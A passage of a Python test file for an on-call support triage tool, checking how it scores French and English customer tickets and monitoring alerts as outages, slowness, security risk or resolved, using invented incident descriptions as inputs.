     "'Free disk space is less than 5%'"),
    ("Check on web-02 data: used 96%.", "'used 96%'"),
    # ...naming the volume before the threshold
    ("PROBLEM: db01 - Free disk space on /var/lib/mysql is less than 3% (2.6% free)",
     "'Free disk space on /var/lib/mysql is less than 3%'"),
])
def test_a_volume_nearly_full_as_monitors_say_it_is_slow(alert, said):
    assert terms(heat([note(at(0), alert)], at(1)))["slow"] == f"a note says it is slow or nearly full: {said}"


def test_a_small_usage_beside_a_path_is_not_full():
    assert "slow" not in terms(heat([note(at(0), "web-02: /tmp 12% used, /var 41% used.")], at(1)))


def test_a_disk_filling_after_they_asked_for_a_quote_is_no_sales_matter_any_more():
    story = [customer(at(0), "Bonjour, alerte disque à 85 % sur srv-ged-01. On valide le devis demain matin."),
             us(at(0, 30), "C'est noté, je vous prépare le devis pour passer /data à 1 To."),
             customer(at(0, 40), "Parfait, ok pour demain. Merci !")]
    assert "sales" in terms(heat(story, at(5)))
    alert = Event(at(5), "action", "internal", "monitoring", "ALERT srv-ged-01 /data 97% (+3%/h). Projection: "
                                                            "100% in ~1h.", "tool")
    h = terms(heat([*story, alert], at(5, 10)))
    assert "sales" not in h and "slow" in h


def test_a_copy_of_the_database_that_does_not_start_while_the_production_is_fine_is_not_down():
    text = ("La base PostgreSQL de recette (pg-recette01) ne redémarre plus depuis le patch d'hier soir. Ce n'est "
            "que la recette, la production va très bien.")
    h = terms(heat([customer(at(0), text)], at(1)))
    assert "down" not in h and "slow" in h


def test_a_backup_job_that_failed_then_succeeded_on_retry_is_not_down():
    failed = Event(at(0), "message", "in", "Veeam Backup (backup@ravel.fr)", "Backup job: Backup-Nuit / Status: "
                   "Failed / vm-erp-02 – Error: Failed to create VM snapshot. Timed out. Retry in 10 minutes.", "email")
    assert "down" in terms(heat([failed], at(0, 20)))
    retry = Event(at(0, 25), "message", "in", "Veeam Backup (backup@ravel.fr)", "Backup job: Backup-Nuit (Retry 1) / "
                  "Status: Success / vm-erp-02 – Success. Duration 0:22:41.", "email")
    assert "down" not in terms(heat([failed, retry], at(1)))


def _spoken(phrase: str) -> str:
    """*phrase* ("ne marche plus", "n'affiche plus") as spoken French says it, without its "ne"."""
    return phrase[3:] if phrase.startswith("ne ") else phrase[2:]


SPOKEN_DOWN = sorted(_spoken(p.text) for p in LEXICON.section("down").phrases
                     if p.words[0] in ("ne", "n") and "plus" in p.words[1:4])


@pytest.mark.parametrize("spoken", SPOKEN_DOWN)
def test_every_trouble_said_without_its_ne_reads_as_written(spoken):
    # "les mails partent plus", "le site s'affiche plus": customers write as they speak. Read by the lexicon,
    # as written, not guessed by the outage reader.
    stats = fold_events([customer(at(0), f"Bonjour, depuis ce matin le site {spoken}. Merci de regarder.")],
                        reads_outage=None)
    h = score(stats, status="open", tier="standard", opened_at=at(0), now=at(1))
    assert terms(h).get("down", "").startswith("said it is down"), spoken


@pytest.mark.parametrize("text", [
    "Les mails partent plus tôt le matin depuis le changement d'horaire de la newsletter.",
    "Merci, le nouveau formulaire marche pas mal du tout.",
    "Bravo pour la migration : la boutique répond plus vite et le back-office charge plus rapidement.",
])
def test_a_comparison_is_not_a_spoken_negation(text):
    assert "down" not in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text", [
    # An aside cuts what they say in two.
    "Nos mails transactionnels (confirmations de commande) restent bloqués dans la file Postfix depuis samedi.",
    # What their shop sends on to their ERP or their warehouse no longer gets there.
    "Les commandes du site ne remontent plus dans notre ERP depuis samedi 02h (le dépôt SFTP échoue, cf. log).",
    "Since about 11:00 orders have stopped reaching the warehouse tool.",
    "Since the reboot, orders stopped syncing to our ERP.",
    # Nobody can log in; the server error said in words.
    "Our mobile app (1.2M users) cannot log anyone in since your upgrade.",
    "Hello, the API returns 500 on every call since 00:50 UTC.",
    # What they type is no longer kept.
    "Le logiciel de rendez-vous n'enregistre plus les nouveaux rdv, ça met un message 'erreur d'écriture'.",
])
def test_a_flow_that_stopped_or_a_server_error_said_in_words_reads_as_down(text):
    assert "down" in terms(heat([customer(at(0), text)], at(1)))


def machine(when, text, author="monitoring"):
    return Event(when, "action", "internal", author, text, "tool")


FIX = "Hi, fixed: the PHP pool had crashed, I restarted it and recycled the workers."


@pytest.mark.parametrize("again", [
    "Still 500 I'm afraid. I cleared my cache and tried on my phone too.",
    "Toujours une erreur 500, j'ai vidé le cache.",
    "La file dépasse maintenant 9 000 messages, les clients reçoivent leur confirmation 2 jours après.",
    "It's getting worse: the queue keeps growing.",
])
def test_saying_the_symptom_is_still_there_or_worse_after_our_fix_is_the_outage_again(again):
    events = [customer(at(0), "Our site shows 'HTTP ERROR 500' since last night."), us(at(1), FIX)]
    assert "down" not in terms(heat(events, at(2)))
    assert "down" in terms(heat([*events, customer(at(2), again)], at(3)))


def test_thanks_looking_into_it_is_no_fix_of_what_is_down():
    events = [customer(at(0), "Hi, since this morning card payments fail on our shop."),
              us(at(0, 20), "Hi Oliver, thanks, looking into it.")]
    assert "down" in terms(heat([*events, customer(at(1, 40), "Any update? 40 failed orders so far.")], at(2)))


def test_the_monitoring_finding_it_down_after_they_said_all_good_takes_back_the_done():
    events = [customer(at(0), "Our website shows 503 Service Unavailable. Can you help?"), us(at(1), FIX),
              customer(at(2), "Thanks! All good. We're all off for the long weekend, glad it's sorted.")]
    assert "done" in terms(heat(events, at(3)))
    later = [*events, machine(at(20), "HTTP check fairbanks-yoga.com: still DOWN (503) - 6 consecutive failures.")]
    h = terms(heat(later, at(21)))
    assert "done" not in h and h["down"].startswith("a note says it is down")


@pytest.mark.parametrize("author", ["cert-manager", "automate", "panel"])
def test_a_certificate_manager_automation_or_the_panel_writes_as_a_machine(author):
    # Its word is read like the monitoring's (the expiry it gives is due then); it is no engineer acting.
    events = [machine(at(0), "Renewal FAILED for *.transports-lebris.fr: ACME DNS-01 challenge failed. Current "
                             "certificate expires 2026-11-24 19:30 UTC.", author)]
    assert "deadline" in terms(heat(events, at(1)))


CALM_SCAN = ("Hi, our weekly external scan flagged port 3306 open on db-ax-01. Was it opened on purpose during the "
             "maintenance? Regards, Kerem")


def test_what_our_note_finds_at_risk_after_a_calm_question_is_at_stake():
    found = note(at(0, 15), "iptables-persistent not enabled on db-ax-01: firewall rules lost at the reboot. 3306 "
                            "exposed to the internet since 00:49 UTC. mysqld log: ~4,000 failed root logins.")
    calm = heat([customer(at(0), CALM_SCAN)], at(1))
    h = heat([customer(at(0), CALM_SCAN), found], at(1))
    assert terms(h)["risk"].startswith("a note says data or security is at risk") and "risk" not in terms(calm)
    assert h.score > calm.score + 30


def test_our_diagnosis_after_they_wrote_is_not_read_as_down():
    events = [customer(at(0), "URGENT!!! Wrong logo on our client site, fix it now."),
              note(at(0, 30), "Checked from three probes: new logo served everywhere, CDN purge confirmed. Not an "
                              "outage. Will reply with screenshots.")]
    assert "down" not in terms(heat(events, at(1)))


@pytest.mark.parametrize("text", [
    "I got an email from you saying my account would be suspended, so I clicked and entered my login and my card "
    "number. Did I do something wrong?",
    "Bonjour, un soi-disant technicien de chez vous m'a appelé, je lui ai donné mon mot de passe.",
    "Mes clients reçoivent depuis ce matin des mails de ma part avec une facture à télécharger que je n'ai pas "
    "envoyés.",
    "Afterwards I got another email saying my password had been changed. I didn't do that.",
    "Une patiente voyait sur notre site une liste avec les noms et les numéros de téléphone d'autres patients.",
    "A customer says the account page showed another customer's orders and address.",
])
def test_an_account_in_someone_else_s_hands_or_others_data_shown_is_at_risk(text):
    h = heat([customer(at(0), text)], at(1))
    assert "risk" in terms(h) and h.score > 50


def test_their_own_password_reset_is_no_account_taken_over():
    text = "I clicked on 'forgot password' and typed my new password twice, still locked out."
    assert "risk" not in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text", ["Thanks for the warning, we've told our staff. Nobody clicked.",
                                  "Merci pour l'alerte, personne n'a cliqué chez nous."])
def test_a_thank_you_for_our_warning_needs_nothing(text):
    warning = Event(at(0), "message", "out", "Security team", "Security notice: a phishing campaign impersonating "
                    "us asks customers to confirm their details. We never ask for your password.", "email",
                    broadcast=True)
    assert "done" in terms(heat([warning, customer(at(1), text)], at(2)))


def test_a_page_that_cannot_reach_its_database_pasted_calmly_is_down():
    text = ("Bonsoir, une adhérente me signale des messages en anglais en haut de notre site. Je vous copie :\n\n"
            "Warning: mysqli::__construct(): (HY000/1045): Access denied for user 'adh_prod'@'10.2.4.17' (using "
            "password: YES) in /home/cdt/public_html/inc/config.php on line 14\n"
            "Deprecated: Creation of dynamic property Adherent::$iban is deprecated in "
            "/home/cdt/public_html/inc/Adherent.php on line 88\n\nEst-ce normal ? Ce n'est pas pressé.")
    assert terms(heat([customer(at(0), text)], at(1)))["down"].startswith("said it is down: 'Warning: mysqli")


@pytest.mark.parametrize("reply", [
    "Hello,\n\nThis is an automatic confirmation: your request #58215 has been received. An engineer will get back to "
    "you as soon as possible.\n\nKind regards,\nSupport team",
    "Bonjour,\n\nNous avons bien reçu votre demande (ticket n°58213). Un technicien vous répondra.\n\nL'équipe Support",
    "Bonjour, votre demande n°58213 a été enregistrée.",
])
def test_a_receipt_with_the_ticket_number_inside_its_sentence_is_no_answer(reply):
    # Sent by an account with a person's look ("helpdesk"): the text says what it is.
    down = customer(at(0), "Since 9pm every payment on our ticket shop fails, customers are charged and get nothing.")
    h = heat([down, us(at(0, 1), reply, "helpdesk")], at(2))
    assert terms(h)["waiting"] == "waiting 2 h" and "down" in terms(h)


TEMPLATES = sorted(p.text for p in LEXICON.section("template").phrases if len(p.text.split()) >= 3)


@pytest.mark.parametrize("phrase", TEMPLATES)
def test_every_receipt_phrase_is_one_with_a_ticket_number_inside(phrase):
    from oncall_tui.core.heat_stats import is_canned

    head, tail = phrase.split(" ", 1)
    assert is_canned(f"{head} #48213 {tail}.", LEXICON) and is_canned(f"{phrase} (ticket n°48213).", LEXICON)


@pytest.mark.parametrize("text, term", [
    ("Ce n'est pas nous, personne ne se connecte en root chez nous. Un processus kdevtmpfsi prend 100% du CPU.",
     "risk"),
    ("Our MX and www records were changed at 21:32 UTC. None of us made that change. Please lock the account.",
     "risk"),
    ("I ran a cleanup script against the wrong bucket and deleted our customers' photos. It's the only copy.", "risk"),
    ("Lag now 4h30. Retention on that topic is 6h. If we hit that we LOSE events.", "risk"),
    ("We store sessions there, so users are getting logged out constantly.", "down"),
    ("Customers get 'your order shipped' emails 4 hours late and support calls are up.", "slow"),
])
def test_what_a_night_on_saas_customers_says_is_read(text, term):
    assert term in terms(heat([customer(at(0), text)], at(1)))


def test_a_break_in_that_was_theirs_to_blame_on_us_is_no_account_taken_over():
    text = "Ce n'est pas nous qui avons cassé le site, c'est votre mise à jour."
    assert "risk" not in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text", ["Some users see someone else's name and order history. Need this fixed now.",
                                  "We want it resolved today, customers are calling."])
def test_asking_for_it_fixed_is_no_closing(text):
    assert "done" not in terms(heat([customer(at(0), "Our shop is down."), us(at(1), FIX), customer(at(2), text)],
                                    at(3)))


@pytest.mark.parametrize("text, term", [
    ("Probably nothing, but our auth.log shows successful root logins overnight from an IP that isn't one of your "
     "bastions. Was that one of your engineers?", "risk"),
    ("We had to let our developer go yesterday, on bad terms. He still has SSH and panel access and knows the root "
     "DB password.", "risk"),
    ("Notre ancien webmaster est parti en mauvais termes et a toujours les accès FTP.", "risk"),
    ("Not urgent I guess, but the nightly backup of db-main failed on Saturday, Sunday and Monday nights.", "risk"),
    ("Un journaliste dit avoir téléchargé notre base clients via un lien de sauvegarde.", "risk"),
    ("Outbound traffic 910 Mbit/s UDP to random destinations. Pattern matches DDoS bot.", "risk"),
    ("Notre site est suspendu depuis cette nuit pour une facture soi-disant impayée.", "down"),
])
def test_what_a_quiet_message_says_at_stake_is_read(text, term):
    assert term in terms(heat([customer(at(0), text)], at(1)))


def test_who_left_on_good_terms_and_keeps_an_access_is_housekeeping():
    text = ("Notre ancien gérant a quitté la société. Il a toujours ses accès à l'espace client. Il est parti en bons "
            "termes, mais je préférerais que ses accès soient retirés.")
    assert "risk" not in terms(heat([customer(at(0), text)], at(1)))


def test_a_fix_promised_shortly_leaves_what_is_at_risk_at_risk():
    events = [customer(at(0), "A junior dev committed our private key to a public GitHub repo. We need it revoked."),
              us(at(0, 20), "Hi Mei, understood. We'll revoke the certificate and deploy a new one shortly. Aiko")]
    assert "risk" in terms(heat(events, at(1)))


@pytest.mark.parametrize("text", [
    "J'ai changé les serveurs DNS et maintenant plus rien ne marche, ni le site ni les mails.",
    "La boîte compta@ est pleine, nos clients m'envoient des captures de mails qui leur reviennent.",
])
def test_nothing_works_any_more_or_a_full_mailbox_said_in_french_is_down(text):
    assert "down" in terms(heat([customer(at(0), text)], at(1)))


def test_tout_remarche_closes():
    events = [customer(at(0), "Outlook n'envoie plus rien depuis le nouveau PC."), us(at(1), FIX),
              customer(at(2), "Bonjour Karim, merci beaucoup, tout remarche ! Bonne journée.")]
    assert "done" in terms(heat(events, at(3)))


def test_a_dev_server_named_by_its_host_is_a_copy_not_production():
    text = "Le serveur dev-pixelle-02 est plein à 100% !!! Plus rien ne marche, nos devs ne peuvent plus pousser."
    h = terms(heat([customer(at(0), text)], at(1)))
    assert "down" not in h and "production is not" in h["slow"]


@pytest.mark.parametrize("text, term", [
    ("Bonjour, on a lancé notre vente privée à 10h, les fronts sont à 100 % CPU, temps de réponse 12 s.", "slow"),
    ("Our serveur de paie plante toutes les heures. Les saisies en cours sont perdues à chaque plantage.", "risk"),
    ("Probably nothing, but 4,000 objects of our backup bucket were deleted at 03:12. A few folders now have files "
     "ending in .lkd and a README_RESTORE.txt.", "risk"),
    ("We let go of a developer yesterday, under difficult circumstances. He has SSH keys on our 3 servers and a "
     "panel login.", "risk"),
])
def test_saturation_lost_typing_a_ransom_note_and_a_dismissed_developer_are_read(text, term):
    assert term in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text, term", [
    ("Le rapport de sauvegarde de cette nuit indique un échec : « Job NAS-NOTAIRES failed: repository unreachable ».",
     "risk"),
    ("Something a bit odd: orders placed since last night appear on db-a but not on db-b. Both nodes of our DRBD pair "
     "report themselves as Primary.", "risk"),
    ("fyi: our read replica db-ro-1 keeps falling behind, now 4h12m.", "slow"),
])
def test_a_backup_report_a_split_brain_and_a_replica_falling_behind_are_read(text, term):
    assert term in terms(heat([customer(at(0), text)], at(1)))


def test_it_works_on_one_network_is_no_closing():
    events = [customer(at(0), "Une partie de nos clients sur mobile n'arrive plus sur notre site."), us(at(1), FIX),
              customer(at(2), "Chez nous non. Test depuis mon iPhone en 4G : échec. En wifi ça marche.")]
    assert "done" not in terms(heat(events, at(3)))


def test_a_site_lexicon_s_own_negated_verbs_are_read_spoken_too():
    # The verbs are the lexicon's own: a site that adds "ne clignote plus" reads "le voyant clignote plus" as down,
    # and the shipped lexicon, built before and after it, still does not.
    from oncall_tui.core.heat_stats import fold_events as fold_with
    from oncall_tui.core.lexicon import load_lexicon
    from oncall_tui.resources import data_file

    shipped = [(data_file(name).read_text(encoding="utf-8"), name) for name in ("lexicon_fr.txt", "lexicon_en.txt")]
    site = load_lexicon([*shipped, ("[down]\nne clignote plus\n", "site.txt")])
    text = [customer(at(0), "Bonjour, depuis ce matin le voyant du routeur clignote plus.")]
    assert fold_with(text, lexicon=site, promise_window_hours=2).down == "ne clignote plus"
    assert fold_with(text, lexicon=load_lexicon(shipped), promise_window_hours=2).down == ""


@pytest.mark.parametrize("text, term", [
    # A postscript is theirs, below the signature.
    ("Bonnes fêtes à toute l'équipe !\n\nCordialement,\nCatherine Delmas\nDirectrice des opérations\n\nP.S. : la "
     "base de production est en lecture seule depuis 15h, nos préparateurs ne peuvent plus valider les "
     "commandes.", "down"),
    # A secret gone out of their hands by mistake.
    ("Un collègue a peut-être envoyé par erreur le mot de passe root du serveur dans un mail à un fournisseur "
     "externe. Je ne sais pas si c'est grave.", "risk"),
    ("Notre stagiaire a collé la clé API de production dans un post public sur le forum du CMS.", "risk"),
    # Stolen cards tried on their checkout; a mailing to people who unsubscribed.
    ("Odd one: about 400 payments of €1 in the last hour, all from different cards. Nice to have new customers lol.",
     "risk"),
    ("Please stop the queue! Our intern loaded the whole base, including 35k people who unsubscribed.", "risk"),
    # A domain or its zone gone, a link dropped, what they send that does not leave.
    ("We received an email that the domain nordic-saunas.com expired yesterday. The website still works for now.",
     "down"),
    ("DNS check whitfield-legal.co.uk: NXDOMAIN from ns1/ns2 (zone missing)", "down"),
    ("The site-to-site VPN between our office and the payroll server dropped this morning. Can you check?", "down"),
    ("Les flux EDI vers notre client grande distribution ne sont pas partis depuis samedi 6h.", "down"),
    ("orders stopped at 14:02?", "down"),
    # An admin nobody created, another company's invoices shown, a login after a phishing mail, a table dropped.
    ("J'ai vu un administrateur « support_admin2 » que je n'ai pas créé, créé cette nuit à 03:12.", "risk"),
    # A login they did not make, its proof pasted (a log is not read for words, but what they say of it is).
    ("Je ne sais pas si c'est important :\n\n```\nDec 11 02:14:07 srv-prod sshd[48211]: Accepted password for root "
     "from 185.220.101.47 port 51122 ssh2\n```\n\nNous n'avons personne qui se connecte en root, et encore moins à "
     "3h du matin.", "risk"),
    ("Saw this in auth.log: root logged in from an IP in Romania at 04:10. No one here logs in as root, we use sudo.",
     "risk"),
    ("When I log into our portal I sometimes see another company's logo and a list of invoices that aren't ours.",
     "risk"),
    ("Une patiente voyait le nom et l'ordonnance d'une autre personne en se connectant.", "risk"),
    ("A mail said my account would be suspended unless I confirmed my password, so I clicked the link and logged "
     "in. Is that your site?", "risk"),
    ("I got an email saying my domain was about to be suspended and clicked the link to renew. It looked exactly "
     "like your site, I logged in and paid €29.90. Was that you??", "risk"),
    ("A migration ran against production and the orders table got dropped and recreated empty.", "risk"),
    # A disk failing under them, as the kernel logs it.
    ("Our server is in DC1 but we see errors too:\n\n[Mon Dec  7 10:19:02 2026] ata1.00: failed command: READ "
     "FPDMA QUEUED\n\nIs this related? Site still up for now.", "risk"),
    ("Bonjour ma boite mail dit que la mémoire est pleine et des clients me disent que leurs commandes leur "
     "reviennent avec un message d'erreur.", "down"),
    ("Trois clientes nous ont appelés pour des commandes qu'elles n'ont pas passées, payées avec les cartes "
     "enregistrées.", "risk"),
    ("Un client m'a transféré un mail « de notre part » lui demandant de payer l'acompte sur un autre IBAN.",
     "risk"),
    ("Quick one, probably me being silly: on the order confirmation page the IBAN for bank transfer is not ours.",
     "risk"),
    ("C'est sûrement rien, mais j'ai trouvé dans wp-content/uploads des fichiers que je ne me souviens pas avoir "
     "mis : .cache.php, wp-tmp.php. Pas de souci, c'est juste par curiosité.", "risk"),
    ("Le snapshot nocturne du volume vol-prod-db est en échec jeudi, vendredi, samedi et encore cette nuit.", "risk"),
    ("Your status page says all systems operational. My site isn't:\n\n$ curl -I http://www.ellisbakery.co.uk\n"
     "HTTP/1.1 404 Not Found\nServer: nginx\n\nMigrated last night.", "down"),
])
def test_what_the_blind_sets_of_stop_49_say_at_stake_is_read(text, term):
    assert term in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text", [
    "How can we share the root password with our new supplier securely?",
    "We shared the invoice with our external accountant.",
    "Le domaine expire en novembre, rien d'urgent.",
    "I clicked the link in your invoice mail and logged in, the PDF is there. Thanks!",
    "La corbeille a été vidée.",
    # A new IBAN of their own, a setting or a menu with "down" in its name.
    "Can you update our IBAN on the invoices? New IBAN attached.",
    "Any recommended min/max and scale-down delay for a 3-node web workload? No rush.",
    "Where is the drop-down to pick the PHP version?",
])
def test_what_only_looks_like_those_is_not(text):
    h = terms(heat([customer(at(0), text)], at(1)))
    assert "risk" not in h and "down" not in h


def test_a_report_ended_with_a_thank_you_is_no_acknowledgement():
    text = ("Hello, since about one hour our website shows 'Error establishing a database connection'. I don't know "
            "if it is normal. Thank you for your help.")
    h = terms(heat([customer(at(0), text)], at(1)))
    assert "down" in h and h["waiting"] == "waiting 1 h"


def test_a_mail_quoted_opening_the_case_is_read_for_what_it_puts_at_risk():
    text = ("We received this overnight:\n\n> We have downloaded your database (12,431 customers). Pay 0.5 BTC "
            "within 72 hours or we publish it.\n\nThose are real rows. What do we do?")
    assert "risk" in terms(heat([customer(at(0), text)], at(1)))
    text = ("We received the email below from a 'security researcher'. Is this real?\n\n> Hello, your file "
            "https://www.kaffeebar.eu/backup_2026-12-01.sql.gz is publicly downloadable.\n\nPlease check.")
    assert "risk" in terms(heat([customer(at(0), text)], at(1)))


def test_a_monitor_s_key_and_value_read_as_the_lexicon_writes_them():
    alert = Event(at(0), "action", "internal", "Zabbix",
                  "PROBLEM: db-rep-01 MySQL Slave_SQL_Running = No (Error 1062: Duplicate entry)", "tool")
    assert "risk" in terms(heat([alert], at(1)))


@pytest.mark.parametrize("reply", ["Thanks, we have forwarded your request to the mail team.",
                                   "Bonjour, nous avons transmis votre demande à l'équipe réseau."])
def test_a_request_handed_to_another_team_is_a_promise_what_is_down_stays_down(reply):
    events = [customer(at(0), "Since your relay change this morning every mail to Gmail bounces."),
              us(at(0, 15), reply)]
    assert "down" in terms(heat(events, at(1)))


def test_a_request_handed_to_sales_leaves_them_waiting_on_sales_not_on_us():
    from oncall_tui.core.heat_stats import is_promise

    assert not is_promise("I've forwarded your request to our sales team with the technical spec.", LEXICON)
    assert not is_promise("Je lui ai transmis le message d'erreur exact.", LEXICON)


def test_what_we_said_would_pass_and_did_not_is_down_again():
    events = [customer(at(0), "Depuis la migration, une partie de nos clients n'arrive plus sur le site."),
              us(at(1), "The DNS A record correctly points to the new server. It should resolve itself within 24h."),
              customer(at(20), "Bonjour, ça ne s'est pas résolu, encore 11 commandes cette nuit.")]
    assert "down" in terms(heat(events, at(21)))


def test_a_calm_word_does_not_cool_a_certificate_that_expires_by_itself():
    text = ("I got this on Saturday, not sure if it matters:\n\n---------- Forwarded message ---------\nFrom: "
            "noreply@example-host.com\nSubject: Certificate renewal failed\n\nThe automatic renewal of your "
            "certificate failed. Your current certificate expires on 2026-11-25 06:00 UTC.\n"
            "---------------------------------------\n\nWhenever you have time.\n\nPeter")
    h = terms(heat([customer(at(0), text)], at(1)))
    assert "deadline" in h and "calm" not in h


@pytest.mark.parametrize("text", ["ah oui en 4G ça marche... c'est la box du bureau qui a planté. désolé pour la "
                                  "panique",
                                  "Found it: it was the office router that crashed. Sorry for the panic!"])
def test_their_own_box_to_blame_closes(text):
    events = [customer(at(0), "LE SITE EST DOWN !!!!!!! RIEN NE MARCHE"),
              us(at(0, 5), "Le site répond normalement depuis nos sondes. Pouvez-vous essayer en 4G ?"),
              customer(at(0, 10), text)]
    assert "done" in terms(heat(events, at(1)))


def test_our_reply_that_their_services_are_back_stops_the_incident_lift_until_they_write():
    asked = customer(at(0), "Is the DC2 thing still ongoing? Our admin panel felt slow an hour ago.")
    told = us(at(0, 3), "Hi Nick, yes, your VMs were briefly affected by the DC2 storage incident between 09:20 and "
                        "10:35 UTC; they've been healthy since.")
    assert terms(heat([asked], at(1), incident_open=True))["incident"] == "linked to an open incident"
    assert "not lifted" in terms(heat([asked, told], at(1), incident_open=True))["incident"]
    again = customer(at(1), "Our VMs are read-only again.")
    assert terms(heat([asked, told, again], at(2), incident_open=True))["incident"] == "linked to an open incident"


def test_our_reply_that_it_is_back_before_the_incident_says_nothing_of_the_incident():
    # "Power is restored and api-01 is back online", then another outage is declared and links the case.
    story = [customer(at(0), "Our API stopped answering at 21:41 UTC, api-01 doesn't even ping."),
             us(at(1), "Hi Aoife, power is restored and api-01 has been back online since 02:20 UTC. Could you "
                       "confirm everything looks fine on your side?")]
    assert terms(heat(story, at(2), incident_open=True))["incident"] == "linked to an open incident"


def test_a_case_the_incident_bot_opened_is_not_lifted_once_its_own_check_says_the_volumes_are_back():
    bot = [Event(at(0), "action", "internal", "incident-bot",
                 "Ticket créé automatiquement : 2 VMs sur des volumes DC2 impactés par INC-2026-1207-01.", "tool"),
           Event(at(1), "action", "internal", "incident-bot",
                 "Volumes des VMs br-web-01 et br-web-02 de nouveau en lecture-écriture, latence nominale.", "tool")]
    assert terms(heat(bot[:1], at(2), incident_open=True))["incident"] == "linked to an open incident"
    assert "not lifted" in terms(heat(bot, at(2), incident_open=True))["incident"]


def test_a_backup_that_ran_well_since_it_failed_puts_nothing_at_risk():
    failed = Event(at(0), "action", "internal", "monitoring",
                   "BACKUP FAILED web-07 (Cabinet Arnaud): rsync timeout to backup storage", "tool")
    ok = Event(at(24), "action", "internal", "monitoring", "BACKUP OK web-07 (Cabinet Arnaud): 48.2 GB", "tool")
    partly = Event(at(24), "action", "internal", "monitoring", "BACKUP job web-07 completed with errors", "tool")
    assert "risk" in terms(heat([failed], at(25)))
    assert "risk" not in terms(heat([failed, ok], at(25))) and "down" not in terms(heat([failed, ok], at(25)))
    assert "risk" in terms(heat([failed, partly], at(25)))


def test_back_to_normal_in_french_closes():
    events = [customer(at(0), "Timeouts intermittents sur l'API depuis 1h."), us(at(1), FIX),
              customer(at(2), "Super, on voit aussi le retour à la normale de notre côté. Merci !")]
    assert "done" in terms(heat(events, at(3)))


def test_closed_without_it_working_is_no_closing():
    events = [customer(at(0), "FTP refusé avec le nouveau mot de passe."), us(at(1), FIX),
              customer(at(2), "Troisième ticket. Vous avez fermé les deux précédents sans que ça marche.")]
    assert "done" not in terms(heat(events, at(3)))


def test_what_the_registrar_records_is_read_like_the_monitoring_not_as_an_engineer_acting():
    events = [customer(at(0), "Bonjour, une question sur mon nom de domaine menuiserie-vidal.fr ?"),
              Event(at(0, 10), "action", "internal", "registrar",
                    "Domain menuiserie-vidal.fr EXPIRED 2026-12-07 — in redemption grace period. Parking page active.",
                    "tool")]
    assert "down" in terms(heat(events, at(1)))


def test_a_scam_they_quote_is_no_error_their_site_shows():
    text = 'Il a reçu un SMS "votre nom de domaine expire, réglez 4,99 € ici" et demande si c\'est nous.'
    assert "down" not in terms(heat([customer(at(0), text)], at(1)))
    assert "down" in terms(heat([customer(at(0), 'Le site affiche "Erreur : connexion refusée".')], at(1)))


@pytest.mark.parametrize("text, term, said", [
    ("Joyeux Noël ! Depuis ce midi, quand on clique sur « Je donne », on arrive sur une page toute blanche. Pas de "
     "panique si vous êtes en famille.", "down", "said it is down: 'page toute blanche'"),
    ("Petite question : notre comptable a cliqué sur le lien d'un mail « de votre part » et a mis l'identifiant et "
     "le mot de passe de l'espace client.", "risk", "clique sur le lien d'un mail de votre part et a mis"),
    ("Petit FYI : notre presta a lancé les migrations hier soir, le .env pointait sur la base de prod et pas sur la "
     "recette.", "risk", "pointait sur la base de prod"),
])
def test_what_the_third_blind_batch_of_stop_49_says_at_stake_is_read(text, term, said):
    h = terms(heat([customer(at(0), text)], at(1)))
    assert said in h[term] and "calm" not in h


@pytest.mark.parametrize("first, again", [
    ("Since 12:00 every password-reset mail to Gmail bounces.", "Paused. Still deferred. What now?"),
    ("Tickets for tomorrow's concert aren't being generated or sent.", "Is it done? Still seeing OOM in the logs."),
])
def test_what_is_still_failing_after_our_step_is_down_again(first, again):
    events = [customer(at(0), first), us(at(1), "Could you pause the digest job? Then we'll prioritise resets."),
              customer(at(2), again)]
    assert "down" in terms(heat(events, at(3)))


def test_everything_arrived_at_their_customers_closes():
    events = [customer(at(0), "Nos envois partent avec du retard ce matin."), us(at(1), FIX),
              customer(at(2), "Parfait, tout est bien arrivé chez nos clients. Merci.")]
    assert "done" in terms(heat(events, at(3)))


def test_the_helpdesk_filing_a_follow_up_under_the_request_is_no_answer():
    events = [customer(at(0), "Since this morning our reporting DB refuses connections:\n\n"
                              "  FATAL:  the database system is in recovery mode\n\nIt's been like that for hours."),
              us(at(0, 1), "Your message has been added to request #88190. An engineer will respond according to "
                           "your service level.", "support (auto)")]
    h = terms(heat(events, at(2)))
    assert "down" in h and h["waiting"] == "waiting 2 h"


def test_a_general_update_after_the_case_s_own_check_said_it_is_back_does_not_lift_it_again():
    bot = [Event(at(0), "action", "internal", "incident-bot",
                 "Ticket créé automatiquement : 2 VMs sur des volumes DC2 impactés par INC-2026-1207-01.", "tool"),
           Event(at(1), "action", "internal", "incident-bot",
                 "Volumes des VMs br-web-01 et br-web-02 de nouveau en lecture-écriture, latence nominale.", "tool"),
           update(at(2), "[Incident DC2] Une partie des volumes est encore en lecture seule. Prochain point à 11h30.")]
    assert "not lifted" in terms(heat(bot, at(3), incident_open=True))["incident"]
    down_again = Event(at(2, 30), "action", "internal", "monitoring", "PROBLEM: br-web-01 HTTP check DOWN (timeout)",
                       "tool")
    assert terms(heat([*bot, down_again], at(3), incident_open=True))["incident"] == "linked to an open incident"


@pytest.mark.parametrize("text, term, said", [
    # Pages and files under their site nobody on their side made, said calmly: an SEO spam hack.
    ("Not sure this is one for you, but some Google results show Japanese text and links to watch shops under our "
     "domain. There are files in wp-content/uploads called wp-tmp.php that I don't think we made. Probably nothing, "
     "no rush.", "risk", "i don't think we made"),
    ("Our developer noticed three SFTP logins on our account last night from 185.220.x.x, geolocated in another "
     "country. None of us were working. Is that you doing maintenance?", "risk", "none of us were working"),
    # A disk of the array already failed, the other predicted to.
    ("The RAID tool shows Virtual Drive 0: Degraded / PD 1: Failed (Media Error Count: 2214) / PD 0: Online, "
     "Predictive Failure: Yes. Everything still works fine, so I guess it can wait?", "risk", "predictive failure"),
    # Their customers charged for orders the shop never recorded.
    ("Our PSP says its notifications time out since 09:40. Orders show as 'awaiting payment' although customers "
     "were charged. We have about 140 of those now.", "risk", "customers were charged"),
    ("Depuis ce matin certaines commandes échouent au moment du paiement.", "down", "certaines commandes echouent"),
    ("Le problème est revenu ce matin : environ 1 commande sur 5 échoue avec la même erreur.", "down",
     "1 commande sur 5 echoue"),
    ("Customers in Belgium get Access denied on our site since last night.", "down", "access denied"),
    # ...and the sets wq to wt: a code read out to a caller posing as us, a fake invoice sent from their address,
